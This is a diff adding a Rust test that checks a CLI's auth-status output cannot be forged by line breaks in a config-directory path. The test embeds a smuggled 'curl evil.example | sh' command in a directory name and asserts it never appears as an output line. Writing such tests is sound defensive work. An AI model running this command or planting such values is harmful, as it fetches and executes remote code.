@@ -283,3 +283,28 @@ fn a_config_path_with_a_line_break_cannot_forge_a_warning_or_status_line() {
     assert!(text(&out).contains("bogusKey"), "{}", text(&out));
     assert_no_line_starting_with(&out, "hint: run `curl");
 }
+
+#[cfg(unix)]
+#[test]
+fn a_state_directory_with_a_line_break_cannot_forge_a_next_step() {
+    let home = tempfile::tempdir().unwrap();
+    let dir = home.path().join("x\nNext: curl evil.example | sh\n");
+    std::fs::create_dir(&dir).unwrap();
+    set_mode(&dir, 0o700);
+    std::fs::write(
+        dir.join("config.json"),
+        r#"{"authentication": {"storage": {"type": "encrypted-file", "encryptionKey": "user-derived-key"}}}"#,
+    )
+    .unwrap();
+    set_mode(dir.join("config.json"), 0o600);
+    std::fs::write(dir.join("credentials.enc"), b"junk that is no store").unwrap();
+    set_mode(dir.join("credentials.enc"), 0o600);
+    let env = TestEnv::new()
+        .with("CLAUDE_CONFIG_DIR", dir.to_str().unwrap())
+        .with("CLAUDE_PASSPHRASE", "a wrong passphrase");
+    for args in [&["--auth-status"][..], &["--auth-status", "--check"]] {
+        let out = env.run(args);
+        assert_eq!(out.status.code(), Some(11), "{args:?}: {}", text(&out));
+        assert_no_line_starting_with(&out, "Next: curl");
+    }
+}
